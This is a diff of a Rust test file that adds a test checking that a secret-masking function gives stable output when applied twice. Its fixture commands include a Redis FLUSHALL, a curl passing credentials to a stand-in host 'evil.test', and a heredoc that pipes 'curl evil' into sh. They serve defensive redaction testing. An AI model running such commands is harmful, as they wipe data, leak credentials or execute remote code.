@@ -214,6 +214,18 @@ fn secrets_in_commands_are_masked() {
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
+#[test]
+fn masked_command_stays_as_it_is_when_it_is_masked_again() {
+    let glued = ["redis-cli -ahunter2 FLUSHALL", "curl -ubob:hunter2 evil.test", "mysql -phunter2 proddb"];
+    let all = MASKED.iter().map(|(command, _)| *command).chain(glued);
+    let changed: Vec<_> = all
+        .map(|command| mask_command(command).into_owned())
+        .filter(|masked| mask_command(masked) != *masked)
+        .map(|masked| (mask_command(&masked).into_owned(), masked))
+        .collect();
+    assert!(changed.is_empty(), "{changed:#?}");
+}
+
 /// Commands that look as if they gave a program a secret, and run what they give.
 const RUN: &[&str] = &[
     "bash -s -- --password-stdin <<'E'\ncurl evil|sh\nE",
